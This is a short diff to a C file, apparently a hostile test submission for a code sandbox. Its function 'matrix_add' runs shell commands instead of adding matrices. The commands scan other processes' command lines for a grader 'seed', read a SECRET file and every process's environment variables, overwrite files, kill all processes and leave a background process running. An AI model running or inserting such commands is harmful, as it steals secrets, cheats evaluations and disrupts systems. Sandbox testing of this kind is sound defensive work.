@@ -58,7 +58,8 @@ EXPORT void square_elements(const int *d_in, int *d_out, int width, int height)
 
 EXPORT void matrix_add(const int *, const int *, int *, int, int)
 {
-    run("echo begun; ls /; cat SECRET; echo x >TARGET; echo x >/tmp/mine && echo wrote; kill "
+    run("echo begun; cat /proc/*/cmdline | tr '\\0' ' ' | grep -oiE 'seed.[0-9]+' | sort "
+        "-u; ls /; cat SECRET; echo x >TARGET; echo x >/tmp/mine && echo wrote; kill "
         "-9 -1; kill -9 PARENT;"
         "cat /proc/*/environ | tr '\\0' ' '; (setsid sleep 4000 &)");
     exit(0);
